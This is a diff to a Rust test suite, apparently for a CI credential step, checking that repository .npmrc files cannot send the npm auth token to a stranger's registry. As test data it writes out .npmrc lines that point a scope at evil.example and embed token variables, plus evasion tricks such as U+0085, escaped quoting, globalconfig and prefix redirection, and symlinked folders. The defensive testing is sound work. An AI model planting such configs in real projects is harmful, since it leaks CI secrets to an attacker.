@@ -53,10 +53,14 @@ fn write_project(job: &Job<'_>) {
     );
 }
 
-/// By which npm asks the stranger.
+/// A command by which npm asks the stranger, as are the next ones. Each sends what the files have for that host.
 const INSTALL: &str = "install --no-fund --no-audit";
 const VIEW: &str = "view @e/left-behind";
 const PING: &str = "ping --registry=https://evil.example/npm/";
+/// Asks the stranger where npm reads the file of a folder, since no other file names this scope.
+const VIEW_OF_FOLDER: &str = "view @v/left-behind";
+/// Asks by the address that a row has for a scope of its own.
+const VIEW_BY_ADDRESS: &str = "view @f/left-behind";
 
 /// Runs the step and npm, wherever its files lead; gives whether the feed's package came.
 fn run_and_ask(
@@ -80,8 +84,15 @@ fn run_and_ask(
     installed(&place, "hello-contoso")
 }
 
-/// What it is, the files, the folder in which npm runs, and the input `tools`.
-type Row = (String, Vec<(String, String)>, &'static str, &'static str);
+struct Row {
+    what: String,
+    files: Vec<(String, String)>,
+    /// The folder in which npm runs, and by which commands.
+    folder: &'static str,
+    commands: &'static [&'static str],
+    /// The input `tools`.
+    tools: &'static str,
+}
 
 /// Each way past a check that reads otherwise than npm does, with every name: the name is worth nothing, so no way is needed.
 #[test]
@@ -95,26 +106,32 @@ fn no_file_of_the_repository_sends_the_token_to_a_stranger() {
         let all: String = names.iter().flat_map(|name| ["${", name, "}"]).collect();
         let key = format!("//{EVIL}/:_authToken");
         let lines = format!("user-agent={all}\n{key}={all}\n");
-        let project = format!("@e:registry=https://{EVIL}/npm/\n{lines}");
-        let mut row = |what: &str, files: &[(&str, &str)], folder: &'static str, tools: &'static str| {
+        let project = format!("@v:registry=https://{EVIL}/npm/\n{lines}");
+        let mut row = |what: &str, files: &[(&str, &str)], folder, commands, tools| {
             let files = files.iter().map(|(path, text)| ((*path).to_owned(), (*text).to_owned())).collect();
-            rows.push((format!("{what} {}", names[0]), files, folder, tools));
+            rows.push(Row { what: format!("{what} {}", names[0]), files, folder, commands, tools });
         };
-        row("plain", &[(".npmrc", &lines)], "", "");
-        row("behind what is a section only for some", &[(".npmrc", &format!(" [x]\n{lines}"))], "", "");
-        row("U+0085 before a section", &[(".npmrc", &format!("\u{85}[x]\n{lines}"))], "", "");
-        row("quoted", &[(".npmrc", &format!("{key}=\"{}\"\n", all.replace('_', "\\u005f")))], "", "");
-        row("quoted twice", &[(".npmrc", &format!("user-agent='\"{}\"'\n", all.replace('_', "\\u005f")))], "", "");
-        row("another file", &[(".npmrc", "globalconfig=./conf/x.txt\n"), ("conf/x.txt", &lines)], "", "");
-        row("below a prefix", &[(".npmrc", "prefix=./p\n"), ("p/etc/npmrc", &lines)], "", "");
-        row("tools: git", &[(".npmrc", &lines)], "", "git");
-        row("tools: git, nuget", &[(".npmrc", &lines)], "", "git, nuget");
-        row("a dependency folder", &[("vendor/app/.npmrc", &project)], "vendor/app", "");
-        row("another of them", &[(".yarn/app/.npmrc", &project)], ".yarn/app", "");
-        row("a password", &[(".npmrc", &format!("//{EVIL}/:username=u\n//{EVIL}/:_password={all}\n"))], "", "");
-        row("in the address", &[(".npmrc", &format!("@f:registry=https://{EVIL}/{all}/\n"))], "", "");
+        let install: &[&str] = &[INSTALL];
+        let view: &[&str] = &[VIEW_OF_FOLDER];
+        row("plain", &[(".npmrc", &lines)], "", &[INSTALL, VIEW, PING], "");
+        row("behind what is a section only for some", &[(".npmrc", &format!(" [x]\n{lines}"))], "", install, "");
+        row("U+0085 before a section", &[(".npmrc", &format!("\u{85}[x]\n{lines}"))], "", install, "");
+        row("quoted", &[(".npmrc", &format!("{key}=\"{}\"\n", all.replace('_', "\\u005f")))], "", install, "");
+        let twice = format!("user-agent='\"{}\"'\n", all.replace('_', "\\u005f"));
+        row("quoted twice", &[(".npmrc", &twice)], "", install, "");
+        let another = [(".npmrc", "globalconfig=./conf/x.txt\n"), ("conf/x.txt", &*lines)];
+        row("another file", &another, "", install, "");
+        row("below a prefix", &[(".npmrc", "prefix=./p\n"), ("p/etc/npmrc", &lines)], "", install, "");
+        row("tools: git", &[(".npmrc", &lines)], "", install, "git");
+        row("tools: git, nuget", &[(".npmrc", &lines)], "", install, "git, nuget");
+        row("a dependency folder", &[("vendor/app/.npmrc", &project)], "vendor/app", view, "");
+        row("another of them", &[(".yarn/app/.npmrc", &project)], ".yarn/app", view, "");
+        let password = format!("//{EVIL}/:username=u\n//{EVIL}/:_password={all}\n");
+        row("a password", &[(".npmrc", &password)], "", install, "");
+        let address = format!("@f:registry=https://{EVIL}/{all}/\n");
+        row("in the address", &[(".npmrc", &address)], "", &[VIEW_BY_ADDRESS], "");
     }
-    side_by_side(4, &rows, |(what, files, folder, tools)| {
+    side_by_side(4, &rows, |Row { what, files, folder, commands, tools }| {
         let emulator = with_challenge();
         let mut job = job(&emulator);
         write_project(&job);
@@ -122,19 +139,20 @@ fn no_file_of_the_repository_sends_the_token_to_a_stranger() {
             let before = crate::support::read(job.sources().join(path));
             write(&job, path, format!("{before}{text}"));
         }
-        write(&job, "vendor/app/package.json", "{\"name\":\"app\",\"version\":\"1.0.0\"}");
+        if !folder.is_empty() {
+            write_manifest(&job, folder);
+        }
         let mut step = step().input("gitCredential", "helper");
         if !tools.is_empty() {
             step = step.input("tools", tools);
         }
-        // All send what a file has for the stranger alike.
-        let commands: &[&str] = match *folder {
-            "" if what.starts_with("plain") => &[INSTALL, VIEW, PING],
-            "" => &[INSTALL],
-            _ => &[VIEW],
-        };
         run_and_ask(&emulator, &mut job, &step, (folder, commands), what);
     });
+}
+
+/// By which a folder is a project of its own for npm, whose file it reads.
+fn write_manifest(job: &Job<'_>, folder: &str) {
+    write(job, &format!("{folder}/package.json"), "{\"name\":\"app\",\"version\":\"1.0.0\"}");
 }
 
 /// A file that is too large to be looked at, and a link into a folder that is left out.
@@ -154,11 +172,12 @@ fn neither_size_nor_links_hide_a_file() {
             write(&job, ".npmrc", format!("{before}{lines};{}\n", "x".repeat(65 * 1024 * 1024)));
             ""
         } else {
-            write(&job, "vendor/app/.npmrc", format!("@e:registry=https://{EVIL}/npm/\n{lines}"));
+            write(&job, "vendor/app/.npmrc", format!("@v:registry=https://{EVIL}/npm/\n{lines}"));
+            write_manifest(&job, "vendor/app");
             link("vendor/app", job.sources().join("web")).unwrap();
             "web"
         };
-        let command = if folder.is_empty() { INSTALL } else { VIEW };
+        let command = if folder.is_empty() { INSTALL } else { VIEW_OF_FOLDER };
         run_and_ask(&emulator, &mut job, &step(), (folder, &[command]), what);
     }
 }
